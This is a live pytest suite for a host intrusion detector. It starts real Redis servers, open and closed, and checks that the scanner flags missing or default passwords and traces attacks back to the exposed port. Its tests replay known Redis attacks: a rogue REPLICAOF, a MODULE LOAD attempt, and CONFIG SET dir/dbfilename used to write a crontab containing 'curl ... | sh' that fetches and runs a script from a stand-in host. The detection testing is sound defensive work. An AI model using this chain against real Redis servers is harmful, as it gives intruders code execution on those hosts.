"""A real Redis, open and closed, and what its log tells of those who came in."""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

import pytest
from tests.live.eviction.support import Davy, within

from davy import drill

from .support import Network, program, stands_open

pytestmark = pytest.mark.live

PORT = 16379
OPEN = "bind 0.0.0.0\nprotected-mode no"


def start(network: Network, folder: Path, lines: str, user: str | None = None) -> int:
    config = folder / "redis.conf"
    config.write_text(f'port {PORT}\ndir {folder}\nlogfile {folder}/redis.log\nsave ""\n{lines}\n')
    pid = network.start(program("redis-server", "redis-server"), str(config), user=user)
    assert within(20, lambda: network.listens(PORT))
    return pid


def told(network: Network, *words: str) -> str:
    return network.run(program("redis-cli", "redis-tools"), "-p", str(PORT), *words).stdout.strip()


@pytest.mark.parametrize(
    ("lines", "reached_from", "severity"),
    [(OPEN, "any", "critical"), ("bind 10.0.0.1\nprotected-mode no", "private", "high")],
)
def test_without_a_password_it_stands_open(
    network: Network, folder: Path, davy: Davy, lines: str, reached_from: str, severity: str
) -> None:
    pid = start(network, folder, lines)
    found = stands_open(davy, "redis", pid)["no-password"]
    assert (found["reached_from"], found["severity"]) == (reached_from, severity)
    assert f"{folder}/redis.conf: requirepass <a long random password>" in found["fix"]
    assert found["change"]["path"] == f"{folder}/redis.conf"
    assert found["change"]["after"] == "bind 127.0.0.1 -::1"


@pytest.mark.parametrize(
    "lines",
    [
        "bind 127.0.0.1\nprotected-mode no",
        "bind 0.0.0.0\nprotected-mode no\nrequirepass 0b9c6f1e7a5d",
        "bind 0.0.0.0\nprotected-mode yes",
        "bind 0.0.0.0\nprotected-mode no\nuser default off",
    ],
    ids=["on loopback", "with a password", "in protected mode", "without its default user"],
)
def test_closed_it_is_no_exposure(network: Network, folder: Path, davy: Davy, lines: str) -> None:
    pid = start(network, folder, lines)
    found = stands_open(davy, "redis", pid)
    assert not {name for name, one in found.items() if one["severity"] != "low"}, found


def test_a_usual_password_is_as_good_as_none(network: Network, folder: Path, davy: Davy) -> None:
    pid = start(network, folder, "bind 0.0.0.0\nrequirepass foobared")
    found = stands_open(davy, "redis", pid)
    assert set(found) == {"usual-password"}
    assert found["usual-password"]["severity"] == "high"


def test_who_made_it_a_replica_or_gave_it_a_module_is_told_by_its_log(
    network: Network, folder: Path, davy: Davy
) -> None:
    pid = start(network, folder, f"{OPEN}\nenable-module-command yes")
    stranger = ("-h", "198.51.100.1")
    assert told(network, *stranger, "replicaof", "10.0.0.1", "6380") == "OK"
    assert within(20, lambda: "Connecting to MASTER" in (folder / "redis.log").read_text())
    assert told(network, *stranger, "replicaof", "no", "one") == "OK"
    told(network, *stranger, "module", "load", f"{folder}/x.so")
    used = {hit["sign"]: hit for hit in stands_open(davy, "redis", pid, "--logs")["no-password"]["used"]}
    assert used["made-a-replica"]["shows"] == "success"
    assert (used["made-a-replica"]["address"], used["made-a-replica"]["detail"]) == ("198.51.100.1", "10.0.0.1:6380")
    assert used["module-refused"]["shows"] == "attempt"


def test_a_save_is_told_by_its_log_only_where_the_system_refused_it(network: Network, folder: Path, davy: Davy) -> None:
    crontabs, forbidden = folder / "cron.d", folder / "forbidden" / "cron.d"
    crontabs.mkdir()
    forbidden.mkdir(parents=True)
    for owned in (folder, crontabs):
        shutil.chown(owned, "redis", "redis")
    pid = start(network, folder, f"{OPEN}\nset-proc-title no\nenable-protected-configs yes", user="redis")
    stranger = ("-h", "198.51.100.1")
    told(network, *stranger, "config", "set", "dbfilename", "root")
    told(network, *stranger, "config", "set", "dir", str(crontabs))
    assert told(network, *stranger, "save") == "OK"
    assert (crontabs / "root").read_bytes().startswith(b"REDIS0")
    assert "DB saved on disk" in (folder / "redis.log").read_text()
    assert stands_open(davy, "redis", pid, "--logs")["no-password"]["used"] == [], "it looks like every other save"
    told(network, *stranger, "config", "set", "dir", str(forbidden))
    assert told(network, *stranger, "save").startswith("ERR")
    (hit,) = stands_open(davy, "redis", pid, "--logs")["no-password"]["used"]
    assert (hit["sign"], hit["shows"]) == ("saved-where-programs-start", "attempt")
    assert str(forbidden) in hit["detail"]


def test_it_is_named_as_the_door_of_a_crontab_that_a_stranger_had_it_save(
    network: Network, folder: Path, tmp_path: Path
) -> None:
    """The crontabs are a folder of the test's own, in a mount namespace of Redis's own: no cron reads them."""
    crontabs = folder / "crontabs"
    crontabs.mkdir()
    config = folder / "redis.conf"
    config.write_text(
        f'port {PORT}\ndir {folder}\nlogfile {folder}/redis.log\nsave ""\n{OPEN}\n'
        "enable-protected-configs yes\nset-proc-title no\n"
    )
    server = program("redis-server", "redis-server")
    begun = f"mount --bind {crontabs} /var/spool/cron/crontabs && exec {server} {config}"
    pid = network.start("unshare", "--mount", "sh", "-c", begun)
    assert within(20, lambda: network.listens(PORT))
    stranger = ("-h", "198.51.100.1")
    line = "* * * * * curl -fsSL http://203.0.113.7/x.sh | sh"
    assert told(network, *stranger, "set", "x", f"\n\n{line}\n\n") == "OK"
    assert told(network, *stranger, "config", "set", "dir", "/var/spool/cron/crontabs") == "OK"
    assert told(network, *stranger, "config", "set", "dbfilename", "root") == "OK"
    assert told(network, *stranger, "save") == "OK"
    inside = ("nsenter", f"--target={pid}", "--mount", sys.executable, "-m", "davy")
    scanned = network.run(*inside, "scan", "--json", "--state", str(tmp_path / "state"), check=False, seconds=120)
    (incident,) = json.loads(scanned.stdout)["incidents"]
    assert [actor["command"] for actor in incident["actors"] if actor["role"] == "autostart"] == [line[10:]]
    door = incident["door"]
    assert door is not None, json.dumps(incident["other_doors"], indent=1)
    assert (door["kind"], door["address"]) == ("redis", f"0.0.0.0:{PORT}")
    assert any("/var/spool/cron/crontabs/root" in evidence for evidence in door["evidence"]), door["evidence"]
    assert f"{folder}/redis.conf: requirepass <a long random password>" in door["fix"]


@pytest.mark.usefixtures("no_drill_left")
def test_it_is_named_as_the_door_of_a_miner_that_comes_after_a_foreign_master(
    network: Network, folder: Path, davy: Davy
) -> None:
    start(network, folder, OPEN)
    assert told(network, "-h", "198.51.100.1", "replicaof", "10.0.0.1", "6380") == "OK"
    drill.start("kdevtmpfsi", 120)
    scanned = davy.scan()
    (incident,) = scanned.json["incidents"]
    door = incident["door"]
    assert door is not None, json.dumps(incident["other_doors"], indent=1)
    assert (door["kind"], door["address"]) == ("redis", f"0.0.0.0:{PORT}")
    (line,) = [each for each in (folder / "redis.log").read_text().splitlines() if " enabled (user request" in each]
    assert any(line in evidence for evidence in door["evidence"]), door["evidence"]
    assert f"{folder}/redis.conf: requirepass <a long random password>" in door["fix"]
